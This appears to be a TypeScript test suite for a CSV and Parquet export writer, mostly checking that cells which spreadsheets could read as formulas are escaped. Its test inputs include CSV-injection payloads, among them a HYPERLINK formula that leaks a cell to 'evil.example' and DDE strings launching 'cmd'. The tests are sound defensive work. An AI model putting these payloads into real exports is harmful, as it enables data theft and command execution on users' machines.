import { parse } from 'csv-parse/sync';
import { pagedOperation } from './paged-operation';
import { GROUP_ROWS, ParquetFile } from './parquet';
import { PIECE_CHARACTERS, Table } from './table';
import { type Writer, writerOf } from './writers';

const QUESTION = '{ things { nodes { text parts { nodes { n } } } } }';
const operation = pagedOperation(QUESTION, { pageSize: 500 });
const writer = (format: 'csv' | 'jsonl', unfold?: string): Promise<Writer> => writerOf(format, operation, { unfold });

/** An object whose rows repeat a long text. */
const large = { text: 'x'.repeat(10_000), parts: { nodes: Array.from({ length: 490 }, (_, n) => ({ n })) } };

test('writes an object that unfolds into many rows in small pieces', async () => {
  const csv = await writer('csv', 'parts.nodes');
  const pieces = [...csv.add([large, large])];
  expect(pieces.reduce((sum, { rows }) => sum + rows, 0)).toBe(980);
  expect(pieces.length).toBeGreaterThan(100);
  for (const { content } of pieces) expect(content.length).toBeLessThan(PIECE_CHARACTERS + 11_000);
  const rows = parse(`${csv.start(null)}${pieces.map(({ content }) => content).join('')}`, { columns: true });
  expect(rows[979]).toEqual({ text: large.text, 'parts.nodes.n': '489' });
});

test('ends a row group by its size, too', () => {
  const file = new ParquetFile(new Table(operation.selection, 'parts.nodes'), ['STRING', 'INT32']);
  file.start(null);
  let most = 0;
  for (const _piece of file.add(Array.from({ length: 10 }, () => large))) most = Math.max(most, file.waitingRows);
  expect(most).toBeLessThan(1_000);
  expect(most).toBeLessThan(GROUP_ROWS);
});

test('quotes cells that programs could take for comments', async () => {
  const csv = await writer('csv');
  const [piece] = [...csv.add([{ text: 'Case #12', parts: { nodes: [] } }])];
  expect(piece!.content).toBe('"Case #12",\r\n');
});

test.each([
  '# x,=HYPERLINK("http://evil.example/?"&B9,"open")',
  'query ($a: String = """\r=cmd|"/c calc"!A1""") { things { nodes { text } } }',
  '# a;+1\n# b\t@SUM(1)\n# "-2"',
])('has no formulas in its first lines: %j', async (question) => {
  const csv = await writer('csv');
  const text = csv.start({
    ...{ question, variables: { a: '=1+1', b: ['x', '@y'] }, asOf: 'now', handling: undefined, withheld: [] },
  }) as string;
  const lines = text.split(/\r\n|[\r\n]/).slice(0, -2);
  expect(lines.every((line) => line.startsWith('# '))).toBe(true);
  // wherever a spreadsheet divides them
  lines.push(csv.fail({ code: 'INVALID', message: question }));
  for (const line of lines) for (const cell of line.split(/[,;\t"|]/)) expect(cell.trimStart()).not.toMatch(/^[=+\-@]/);
});

/** The first cell of an object with a text, and the line. */
async function written(text: string): Promise<{ cell: string; content: string }> {
  const csv = await writer('csv');
  const content = String([...csv.add([{ text, parts: { nodes: [] } }])][0]!.content);
  return { cell: parse(content, { record_delimiter: '\r\n' })[0]![0]!, content };
}

test.each([
  '=1+1',
  ' \u00a0=1+1',
  '"=1+1',
  '\t@SUM(1)',
  '\r\n+1',
  '\0-1+1',
  'a;=cmd|"/c calc"!A1;b',
  'a; "+1',
  'a\n=1',
  'a\t-x',
  '-2.5;-x',
  '\uff1d1+1',
  'a;\uff0b1\uff20\uff0d',
])('has no formula in a cell, wherever a spreadsheet divides it: %j', async (text) => {
  const { cell, content } = await written(text);
  expect(cell.replaceAll("'", '')).toBe(text);
  for (const part of [cell, ...content.split(/[;\t\r\n]/)])
    expect(part.replace(/^[\s"\0]+/, '')).not.toMatch(/^[=+\-@\uff1d\uff0b\uff0d\uff20]/);
});

test.each(['a = b', 'x-y', 'a, -1', '-12', '2026-11-29', '1; 2; -3'])('leaves the text %j as it is', async (text) => {
  expect((await written(text)).cell).toBe(text);
});
